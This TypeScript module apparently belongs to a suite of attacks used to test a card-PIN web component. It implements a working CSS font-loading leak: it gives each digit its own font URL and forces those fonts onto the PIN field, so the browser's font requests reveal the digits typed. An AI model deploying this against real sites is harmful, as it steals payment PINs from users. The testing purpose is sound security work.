import type { Attack } from '../attack.js';

export const fonts: Attack = {
  title: 'fonts',
  does: 'Defines a font for each digit (`unicode-range`), which a browser loads when it draws the digit. The element gets the fonts by inheritance, by `::part`, by its custom properties, and under the names of fonts that may draw digits.',
  install: ({ basePath }) => {
    const names = [
      'spy',
      'monospace',
      'ui-monospace',
      'SF Mono',
      'Menlo',
      'Consolas',
      'Liberation Mono',
      'Courier New',
      'DejaVu Sans Mono',
      'system-ui',
      'sans-serif',
    ];
    const faces = names.flatMap((name) =>
      [...'0123456789'].map(
        (digit) => `@font-face {
          font-family: '${name}';
          src: url('${basePath}${name}/${digit}');
          unicode-range: U+3${digit};
        }`,
      ),
    );
    const parts = ['field', 'input', 'form', 'label'].map((part) => `set-card-pin::part(${part})`);
    const sheet = document.createElement('style');
    sheet.textContent = `${faces.join('')}
      :root, set-card-pin, ${parts.join()} {
        font-family: spy !important;
        --set-card-pin-font: spy;
      }`;
    document.documentElement.append(sheet);
  },
};
